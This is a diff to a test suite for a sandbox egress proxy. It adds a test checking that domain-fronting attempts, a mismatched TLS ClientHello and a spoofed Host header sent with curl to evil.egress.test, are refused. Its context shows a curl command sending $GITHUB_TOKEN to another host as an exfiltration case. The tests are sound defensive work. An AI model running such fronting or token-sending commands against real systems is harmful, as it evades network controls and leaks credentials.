@@ -129,6 +129,18 @@ describeNetns('egress on docker sandboxes (allowlist, credentials)', () => {
     expect(broker.snapshots.list('local', { profile: 'bot', session: 'echoed' })).toEqual([]);
   });
 
+  it('from inside the sandbox: a ClientHello naming another host than the CONNECT (domain fronting) and a Host header naming another host are refused, and nothing reaches upstream', async () => {
+    const before = seen.length;
+    const r = await run('fronting', [
+      'curl -sS -o /dev/null --connect-to evil.egress.test:443:api.egress.test:443 https://evil.egress.test/ 2>&1 | tail -c 120; echo " tls $?"',
+      'curl -sS -H "Host: evil.egress.test" http://api.egress.test/; echo " host $?"',
+    ].join('; '));
+    expect(r.stdout).toMatch(/curl: \(35\) .*alert access denied\n tls/);
+    expect(r.stdout).toContain('berth egress: api.egress.test:80 refused (host mismatch: the Host header names evil.egress.test)');
+    expect(seen.slice(before)).toEqual([]);
+    expect(events.some((e) => !e.allowed && e.host === 'api.egress.test' && e.rule === 'fronting')).toBe(true);
+  });
+
   it('the placeholder sent to another allowed host is refused as exfiltration', async () => {
     const before = seen.length;
     const r = await run('s3', 'curl -sS http://other.egress.test/x -H "Authorization: Bearer $GITHUB_TOKEN"; echo "exit $?"');
